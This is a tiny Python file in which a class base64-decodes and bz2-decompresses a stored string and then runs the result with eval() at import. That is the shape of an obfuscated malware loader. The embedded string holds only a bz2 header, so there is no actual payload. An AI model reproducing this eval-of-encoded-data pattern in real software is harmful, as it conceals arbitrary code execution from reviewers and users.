import bz2
import base64


class Resource:
    TABLE = ("QlpoOTFBWSZTWQ==",)

    @property
    def text(self):
        return bz2.decompress(base64.b64decode(self.TABLE[0]))


eval(Resource().text, {})
